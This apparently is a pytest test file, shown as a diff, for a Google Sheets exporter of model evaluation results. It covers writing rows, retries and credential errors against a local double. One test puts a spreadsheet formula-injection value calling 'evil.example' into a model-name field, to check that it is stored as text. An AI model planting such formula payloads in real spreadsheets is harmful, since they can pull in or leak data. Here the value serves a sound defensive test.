@@ -1,0 +1,264 @@
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import pytest
+import requests
+from requests.adapters import HTTPAdapter
+from tests.doubles.sheets import SheetsDouble, documents, sheets_double
+from tests.support.runs import make_run
+
+from nel_action.errors import NelActionError
+from nel_action.exporters import registry
+from nel_action.exporters.bundle import Bundle, load_bundle
+from nel_action.exporters.gsheets import exporter as module
+from nel_action.exporters.gsheets.exporter import GsheetsExporter
+from nel_action.exporters.interface import Change, ExportOutcome
+from nel_action.exporters.send import send
+
+if TYPE_CHECKING:
+    from google.auth.credentials import Credentials
+
+pytest.importorskip("gspread", reason="needs the gsheets extra")
+if not documents():
+    pytest.skip("needs google-api-python-client, for Google's own description", allow_module_level=True)
+
+HEADS = ["Model Name", "Task Name", "Invocation ID", "Job ID", "Executor"]
+
+
+class Rerouted(HTTPAdapter):
+    """Sends what is meant for Google to the double, and nothing anywhere else."""
+
+    def __init__(self, url: str) -> None:
+        super().__init__()
+        self._url = url
+
+    def send(self, request: requests.PreparedRequest, *args: Any, **kwargs: Any) -> requests.Response:  # noqa: ANN401
+        address = str(request.url)
+        for origin in ("https://sheets.googleapis.com", "https://www.googleapis.com"):
+            address = address.replace(origin, self._url)
+        request.url = address
+        return super().send(request, *args, **kwargs)
+
+
+@pytest.fixture
+def sheet(monkeypatch: pytest.MonkeyPatch) -> Iterator[SheetsDouble]:
+    with sheets_double() as double:
+
+        def session_for(found: Credentials) -> requests.Session:
+            session = module._authorized(found)
+            session.mount("https://", Rerouted(double.url))
+            return session
+
+        monkeypatch.setattr(module, "EXPORTER", GsheetsExporter(session_for))
+        monkeypatch.setitem(registry._OURS, "gsheets", f"{module.__name__}:EXPORTER")
+        yield double
+
+
+@pytest.fixture(scope="module")
+def private_key() -> str:
+    from cryptography.hazmat.primitives import serialization
+    from cryptography.hazmat.primitives.asymmetric import rsa
+
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    kind = serialization.PrivateFormat.PKCS8
+    return key.private_bytes(serialization.Encoding.PEM, kind, serialization.NoEncryption()).decode()
+
+
+@pytest.fixture
+def key(sheet: SheetsDouble, private_key: str) -> str:
+    """The text of a service account's key, whose tokens come from the double."""
+    return json.dumps(
+        {
+            "type": "service_account",
+            "client_email": "robot@project.example",
+            "private_key": private_key,
+            "token_uri": f"{sheet.url}/token",
+        }
+    )
+
+
+@pytest.fixture
+def bundle(tmp_path: Path) -> Bundle:
+    return load_bundle(make_run(tmp_path / "runs"))
+
+
+def export(
+    bundle: Bundle,
+    key: str,
+    waits: list[float] | None = None,
+    **options: Any,  # noqa: ANN401 - options of a spec
+) -> ExportOutcome:
+    sleep = waits.append if waits is not None else lambda _seconds: None
+    settings = {"spreadsheet_id": "S1", **options}
+    return send([bundle], "gsheets", settings, {"GOOGLE_SERVICE_ACCOUNT_JSON": key}, sleep=sleep)
+
+
+def changes(outcome: ExportOutcome) -> list[Change]:
+    assert outcome.complete, [item.problem for item in outcome.items]
+    return [item.change for item in outcome.items]
+
+
+def rescored(bundle: Bundle, value: float) -> Bundle:
+    tasks = list(bundle.results.tasks)
+    score = tasks[2].scores[0].model_copy(update={"value": value})
+    tasks[2] = tasks[2].model_copy(update={"scores": (score,)})
+    return replace(bundle, results=bundle.results.model_copy(update={"tasks": tuple(tasks)}))
+
+
+def test_an_empty_sheet_gets_heads_and_a_row_for_each_job(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+    assert changes(export(bundle, key)) == [Change.CREATED] * 5
+    assert sheet.grid[0][:5] == HEADS
+    row = sheet.rows()[2]
+    assert (row["Task Name"], row["Verdict"], row["Commit"]) == ("gsm8k", "fail", "a1b2c3d")
+    assert (row["exact_match"], row["exact_match stderr"], row["exact_match n"]) == (0.741, 0.019, 541)
+    assert sheet.calls.count("sheets.spreadsheets.batchUpdate") == 1
+
+
+def test_exporting_twice_writes_nothing(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+    export(bundle, key)
+    before = [list(row) for row in sheet.grid]
+    sheet.calls.clear()
+    assert changes(export(bundle, key)) == [Change.UNCHANGED] * 5
+    assert "sheets.spreadsheets.batchUpdate" not in sheet.calls
+    assert sheet.grid == before
+
+
+def test_only_the_cells_that_changed_are_written(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+    export(bundle, key)
+    assert changes(export(rescored(bundle, 0.5), key)).count(Change.UPDATED) == 1
+    (request,) = sheet.bodies[-1]["requests"]
+    assert request["updateCells"]["rows"] == [{"values": [{"userEnteredValue": {"numberValue": 0.5}}]}]
+    assert sheet.rows()[2]["exact_match"] == 0.5
+
+
+def test_people_s_columns_and_order_are_kept(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+    export(bundle, key)
+    # NOTE: somebody puts a column of notes in front, another head over nothing, and turns the rows round.
+    heads, *rows = sheet.grid
+    sheet.grid = [["Notes", *heads, "Owner"]] + [[f"note {n}", *row, "ann"] for n, row in enumerate(reversed(rows))]
+    sheet.columns += 2
+    before = {row["Job ID"]: (row["Notes"], row["Owner"]) for row in sheet.rows()}
+    export(rescored(bundle, 0.5), key)
+    assert {row["Job ID"]: (row["Notes"], row["Owner"]) for row in sheet.rows()} == before
+    assert next(row for row in sheet.rows() if row["Task Name"] == "gsm8k")["exact_match"] == 0.5
+    assert len(sheet.grid) == 6
+
+
+def test_a_new_invocation_is_added_below_and_new_metrics_to_the_right(
+    bundle: Bundle, sheet: SheetsDouble, key: str
+) -> None:
+    export(bundle, key)
+    width = len(sheet.grid[0])
+    task = bundle.results.tasks[0]
+    score = task.scores[0].model_copy(update={"metric": "f1"})
+    later = task.model_copy(update={"job_id": "ffff.0", "scores": (score,)})
+    results = bundle.results.model_copy(update={"invocation": "ffff", "tasks": (later,)})
+    assert changes(export(replace(bundle, results=results), key)) == [Change.CREATED]
+    assert sheet.grid[0][width:] == ["f1", "f1 stderr", "f1 n"]
+    assert sheet.rows()[-1]["f1"] == 0.741
+    assert sheet.rows()[0]["f1"] == ""
+    assert len(sheet.grid) == 7
+
+
+def test_a_model_called_like_a_formula_is_text(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+    evil = '=IMPORTDATA("https://evil.example")'
+    task = bundle.results.tasks[0].model_copy(update={"model": evil})
+    export(replace(bundle, results=bundle.results.model_copy(update={"tasks": (task,)})), key)
+    kinds = {kind for cell in _cells(sheet.bodies[-1]) for kind in cell.get("userEnteredValue", {})}
+    assert kinds == {"stringValue", "numberValue"}
+    assert sheet.rows()[0]["Model Name"] == evil
+
+
+def _cells(body: dict[str, Any]) -> Iterator[dict[str, Any]]:
+    for request in body["requests"]:
+        for change in request.values():
+            for row in change.get("rows", []):
+                yield from row["values"]
+
+
+def test_metrics_are_filtered(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+    export(bundle, key, log_metrics=["gsm8k.exact_match"])
+    assert [row.get("exact_match") for row in sheet.rows()] == ["", "", 0.741, "", ""]
+
+
+@pytest.mark.parametrize(("headers", "expected"), [({"Retry-After": "33"}, 33.0), ({}, 20.0)])
+def test_quota_is_respected(
+    bundle: Bundle, sheet: SheetsDouble, key: str, headers: dict[str, str], expected: float
+) -> None:
+    sheet.failures = [(429, headers), (429, headers)]
+    waits: list[float] = []
+    assert export(bundle, key, waits).complete
+    assert waits == [expected, expected]
+    assert len(sheet.grid) == 6
+
+
+def test_an_answer_that_was_lost_does_not_double_rows(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+    sheet.lost = ["sheets.spreadsheets.batchUpdate"]
+    assert export(bundle, key).complete
+    assert len(sheet.grid) == 6
+    assert sheet.lost == []
+
+
+@pytest.mark.parametrize(
+    ("options", "failure", "said"),
+    [
+        ({"spreadsheet_id": "other"}, None, "no such sheet"),
+        ({}, 403, "share the sheet with robot@project.example"),
+        ({"worksheet": "Nope"}, None, "no tab 'Nope'"),
+        ({"spreadsheet_id": None, "spreadsheet_name": "Other"}, None, "no sheet 'Other'"),
+        ({}, 400, "Google Sheets refused"),
+    ],
+)
+def test_refusals_say_what_to_do(
+    bundle: Bundle, sheet: SheetsDouble, key: str, options: dict[str, Any], failure: int | None, said: str
+) -> None:
+    sheet.failures = [(failure, {})] if failure else []
+    outcome = export(bundle, key, **options)
+    assert not outcome.complete
+    assert said in str(outcome.items[0].problem)
+
+
+def test_a_sheet_is_found_by_its_title(bundle: Bundle, sheet: SheetsDouble, key: str) -> None:
+    assert export(bundle, key, spreadsheet_id=None, spreadsheet_name="Nightly").complete
+    assert len(sheet.grid) == 6
+
+
+def test_key_from_a_file_and_from_a_mounted_one(bundle: Bundle, sheet: SheetsDouble, key: str, tmp_path: Path) -> None:
+    file = tmp_path / "key.json"
+    file.write_text(key)
+    options = {"spreadsheet_id": "S1"}
+    environ = {"GOOGLE_SERVICE_ACCOUNT_JSON_FILE": str(file)}
+    assert send([bundle], "gsheets", {**options, "service_account_file": str(file)}, {}).complete
+    assert send([bundle], "gsheets", options, environ).complete
+    assert send([bundle], "gsheets", options, {"GOOGLE_APPLICATION_CREDENTIALS": str(file)}).complete
+    assert sheet.tokens == 3
+
+
+@pytest.mark.parametrize(
+    ("options", "environ", "message"),
+    [
+        ({"spreadsheet_id": "S1"}, {}, "no Google credentials"),
+        ({}, {"GOOGLE_SERVICE_ACCOUNT_JSON": "{}"}, "names no sheet"),
+        ({"spreadsheet_id": "S1"}, {"GOOGLE_SERVICE_ACCOUNT_JSON": "s3cret"}, "are not JSON"),
+        ({"spreadsheet_id": "S1", "service_account_file": "/nowhere"}, {}, "cannot read the Google credentials"),
+    ],
+)
+def test_mistakes_are_told_before_anything_is_sent(
+    bundle: Bundle, options: dict[str, str], environ: dict[str, str], message: str
+) -> None:
+    with pytest.raises(NelActionError, match=message) as caught:
+        send([bundle], "gsheets", options, environ)
+    assert "s3cret" not in str(caught.value)
+    assert caught.value.exit_code == 2
+
+
+def test_half_a_key_is_told_without_its_text(bundle: Bundle, sheet: SheetsDouble) -> None:
+    outcome = export(bundle, json.dumps({"type": "service_account", "private_key": "s3cret"}))
+    assert "not a whole key" in str(outcome.items[0].problem)
+    assert "s3cret" not in str(outcome.items[0].problem)
+    assert sheet.calls == []
